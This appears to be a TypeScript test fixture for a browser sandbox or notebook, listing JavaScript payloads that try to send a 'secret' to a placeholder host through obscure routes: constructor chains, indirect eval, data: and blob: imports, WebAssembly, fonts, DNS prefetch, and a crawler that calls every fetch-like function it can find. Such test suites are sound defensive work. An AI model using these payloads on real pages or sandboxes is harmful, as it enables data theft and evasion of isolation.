import type { Payload } from '../payload.ts';
import { aDocument, onlyHere, sameText, soon, type Script } from './sameText.ts';

const request = `new Request(`;

/** Fetching by ways that do not name what they use, or that name what nobody thinks of. */
export const network: readonly Payload[] = [
	sameText(
		'new-function',
		'new Function',
		({ http }) => `await new Function('u', 'return fetch(u, { mode: "no-cors" })')('${http}?' + secret)`
	),
	sameText(
		'frozen-constructor',
		'constructor chain',
		({ http }) =>
			`await Object.freeze(Object.freeze([]).at).constructor('u', 'return fetch(u, { mode: "no-cors" })')('${http}?' + secret)`
	),
	sameText(
		'proxied-constructor',
		'constructor chain',
		({ http }) =>
			`const proxied = new Proxy(class {}, { get: (target, name) => Reflect.get(target, name) });\nawait proxied.constructor('return this')().fetch('${http}?' + secret, { mode: 'no-cors' })`
	),
	sameText(
		'async-function',
		'AsyncFunction',
		({ http }) => `await (async () => {}).constructor('u', 'return await import(u)')('${http}x.js?' + secret)`
	),
	sameText(
		'async-generator',
		'AsyncGeneratorFunction',
		({ http }) =>
			`const make = (async function* () {}).constructor;\nawait make('u', 'yield import(u)')('${http}x.js?' + secret).next()`
	),
	sameText(
		'indirect-eval',
		'eval',
		({ http }) => `await (0, eval)('u => import(u)')('${http}x.js?' + secret)`
	),
	sameText(
		'import-data',
		'import() data:',
		({ http }) =>
			`await import('data:text/javascript,' + encodeURIComponent("import '${http}x.js?" + secret + "'"))`
	),
	sameText(
		'import-blob',
		'import() blob:',
		({ http }) =>
			`const text = new Blob(["import '${http}x.js?" + secret + "'"], { type: 'text/javascript' });\nawait import(URL.createObjectURL(text))`
	),
	sameText(
		'import-json',
		'import() with type',
		({ http }) => `await import('${http}x.json?' + secret, { with: { type: 'json' } })`
	),
	sameText(
		'import-css',
		'import() with type',
		({ http }) => `await import('${http}x.css?' + secret, { with: { type: 'css' } })`,
		{ without: ['firefox'] }
	),
	sameText(
		'import-in-timer',
		'import()',
		({ http }) => `setTimeout(() => import('${http}x.js?' + secret).catch(() => {}), 0); await ${soon}`
	),
	sameText(
		'timer-of-text',
		'setTimeout of text',
		({ http }) => `setTimeout("fetch('${http}?" + secret + "', { mode: 'no-cors' })", 0); await ${soon}`
	),
	sameText(
		'request-object',
		'Request',
		({ http }) => `await fetch(${request}'${http}', { method: 'POST', body: secret, mode: 'no-cors' }))`
	),
	sameText(
		'form-data',
		'FormData',
		({ http }) =>
			`const form = new FormData(); form.set('x', new File([secret], secret));\nawait fetch('${http}', { method: 'POST', body: form, mode: 'no-cors' })`
	),
	sameText(
		'referrer',
		'Referer',
		({ http }) =>
			`history.replaceState(0, '', '?' + secret);\nawait fetch('${http}', { mode: 'no-cors', referrerPolicy: 'unsafe-url' })`
	),
	sameText(
		'wasm-streaming',
		'WebAssembly',
		({ http }) => `await WebAssembly.compileStreaming(fetch('${http}x.wasm?' + secret)).catch(() => {})`
	),
	sameText(
		'wasm-import',
		'WebAssembly',
		({ http }) =>
			`const bytes = Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0, 2, 7, 1, 1, 109, 1, 102, 0, 0, 8, 1, 0);\nconst f = () => void fetch('${http}?' + secret, { mode: 'no-cors' });\nawait WebAssembly.instantiate(bytes, { m: { f } })`
	),
	sameText(
		'font-face',
		'FontFace',
		({ http }) => `await new FontFace('x', "url('${http}x.woff2?" + secret + "')").load().catch(() => {})`
	),
	sameText(
		'audio-object',
		'new Audio',
		({ http }) => `new Audio('${http}x.ogg?' + secret).play().catch(() => {}); await ${soon}`
	),
	sameText(
		'document-image',
		'document',
		({ http }) =>
			`${aDocument}\nconst image = doc.createElement('img'); image.src = '${http}x.svg?' + secret;\ndoc.body.append(image); await ${soon}`
	),
	sameText(
		'document-style',
		'CSS @import',
		({ http }) =>
			`${aDocument}\nconst style = doc.createElement('style'); style.textContent = "@import url('${http}x.css?" + secret + "')";\ndoc.head.append(style); await ${soon}`
	),
	sameText(
		'document-script',
		'script src',
		({ http }) =>
			`${aDocument}\nconst script = doc.createElement('script'); script.src = '${http}x.js?' + secret;\ndoc.head.append(script); await ${soon}`
	),
	sameText(
		'document-handler',
		'event attribute',
		({ http }) =>
			`${aDocument}\nconst image = doc.createElement('img');\nimage.setAttribute('onerror', "fetch('${http}?" + secret + "', { mode: 'no-cors' })");\nimage.src = 'data:,'; doc.body.append(image);\nimage.dispatchEvent(new (doc.defaultView?.Event ?? Event)('error')); await ${soon}`
	),
	sameText(
		'document-view',
		'document',
		({ http }) => `${aDocument}\nawait doc.defaultView.fetch('${http}?' + secret, { mode: 'no-cors' })`
	),
	sameText(
		'document-prefetch',
		'DNS prefetch',
		({ host }) =>
			`${aDocument}\nfor (const rel of ['dns-prefetch', 'preconnect', 'prefetch']) { const link = doc.createElement('link');\nlink.rel = rel; link.href = 'http://' + secret.toLowerCase() + '.${host}/'; doc.head.append(link); } await ${soon}`
	),
	sameText('crawl', 'anything reachable', crawl()),
	sameText(
		'federated',
		'FedCM',
		({ https }) =>
			`await navigator.credentials.get({ identity: { mode: 'active', providers: [{ configURL: '${https}x.json?' + secret, clientId: secret }] } }).catch(() => {})`,
		{
			control: { kind: 'none', why: 'asks only addresses that have a certificate, which the canary has not' }
		}
	),
	onlyHere('source-url', 'sourceURL', {
		script: ({ http }) =>
			`eval('throw1 => 0\\n//# sourceURL=${http}' + secret); new Function('//# sourceURL=${http}' + secret)()`,
		why: 'a browser asks for it only where its developer tools are open'
	}),
	onlyHere('source-map', 'sourceMappingURL', {
		script: ({ http }) =>
			`const fail = eval('() => { throw new Error(1) }\\n//# sourceMappingURL=${http}x.map?' + secret);\nsetTimeout(fail); await ${soon}`,
		why: 'a browser asks for it only where its developer tools are open'
	}),
	onlyHere('report-error', 'reportError', {
		script: ({ http }) => `globalThis.reportError(new Error('${http}?' + secret))`,
		why: 'goes to the console and to listeners, to no address'
	}),
	onlyHere('console-format', 'console', {
		script: ({ http }) =>
			`console.log('%c' + secret, 'background: url(${http}?' + secret + ')');\nconsole.log({ get x() { return globalThis.fetch('${http}?' + secret); }, toString() { return globalThis.fetch('${http}?' + secret); } })`,
		why: 'a console that is not open loads nothing'
	}),
	onlyHere('reporting-observer', 'ReportingObserver', {
		script: ({ http }) =>
			`new ReportingObserver((reports) => console.log(reports), { buffered: true }).observe();\nawait import('${http}x.js?' + secret)`,
		why: 'only hears; an endpoint is named by a header, which neither page sends'
	}),
	onlyHere('policy-violation', 'CSP report', {
		script: ({ http }) =>
			`globalThis.addEventListener('securitypolicyviolation', ({ originalPolicy, documentURI }) => console.log(originalPolicy, documentURI));\nawait import('${http}x.js?' + secret)`,
		why: 'report-uri has no meaning in a meta element, and no header is sent'
	}),
	onlyHere('user-timing', 'performance.measure', {
		script: ({ http }) =>
			`performance.mark(secret, { detail: '${http}?' + secret });\nperformance.measure('${http}?' + secret, secret);\nconst seen = performance.getEntries().map(({ name }) => name); seen`,
		why: 'entries stay in their realm'
	}),
	onlyHere('canvas-filter', 'canvas filter', {
		script: ({ http }) =>
			`let canvas = globalThis.document?.createElement('canvas');\nhtml\`\${Plot.plot({ marks: [(...given) => { canvas = given[4].document.createElement('canvas'); return null; }] })}\`;\nconst pen = canvas.getContext('2d');\npen.filter = "url('${http}x.svg?" + secret + "#a')"; pen.fillStyle = "url('${http}?" + secret + "')"; pen.font = "9px url('${http}?" + secret + "')";\npen.fillRect(0, 0, 9, 9); canvas.getContext('webgl'); canvas.getContext('webgpu'); await ${soon}`,
		why: 'a canvas takes no address but a filter’s, and that only of its own document'
	}),
	onlyHere('image-bitmap', 'createImageBitmap', {
		script: ({ http }) =>
			`const drawing = '<svg xmlns="http://www.w3.org/2000/svg"><image href="${http}?' + secret + '"/></svg>';\nawait createImageBitmap(new Blob([drawing], { type: 'image/svg+xml' }))`,
		why: 'decodes bytes that are there already'
	}),
	onlyHere('gpu', 'WebGPU', {
		script: () =>
			`const gpu = await (await navigator.gpu.requestAdapter()).requestDevice();\ngpu.createShaderModule({ code: '// ' + secret })`,
		why: 'has no address'
	}),
	onlyHere('navigator-acts', 'navigator', {
		script: ({ http }) =>
			`for (const act of [() => navigator.share({ url: '${http}?' + secret }), () => navigator.clipboard.writeText(secret), () => navigator.registerProtocolHandler('web+kladde', '${http}?%s' + secret), () => navigator.geolocation.getCurrentPosition(() => {}), () => new Notification(secret, { icon: '${http}?' + secret }), () => navigator.setAppBadge(1)])\n\ttry { await act(); } catch (problem) { console.log(String(problem)); }`,
		why: 'asks the person first, or stays on the machine'
	})
];

/** Walks from everything that has a name to everything that hangs on it, and calls what can ask for an address. */
function crawl(): Script {
	return ({
		http
	}) => `const wanted = new Set(['fetch', 'importScripts', 'sendBeacon', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'Worker', 'SharedWorker', 'WebTransport', 'Image', 'Function']);
const address = '${http}?' + secret;
const seen = new Set(), todo = [globalThis, async () => {}, function* () {}, new Blob(['']).stream(), new AbortController(), performance, [].values(), new Event('x')];
const tryIt = (name, found) => {
	try {
		if (name === 'fetch' || name === 'importScripts') found(address, { mode: 'no-cors' })?.catch?.(() => {});
		else if (name === 'sendBeacon') found.call(navigator, address);
		else if (name === 'Function') found('u', 'fetch(u, { mode: "no-cors" })')(address);
		else if (name !== 'XMLHttpRequest') new found(address);
	} catch {}
};
for (let steps = 0; todo.length > 0 && steps < 20_000; steps++) {
	const next = todo.pop();
	if (next === null || (typeof next !== 'object' && typeof next !== 'function') || seen.has(next)) continue;
	seen.add(next);
	try {
		todo.push(Object.getPrototypeOf(next));
		for (const key of Reflect.ownKeys(next)) {
			const { value, get } = Object.getOwnPropertyDescriptor(next, key);
			if (typeof value === 'function' && wanted.has(value.name)) tryIt(value.name, value);
			todo.push(value, get);
		}
	} catch {}
}
await ${soon}`;
}
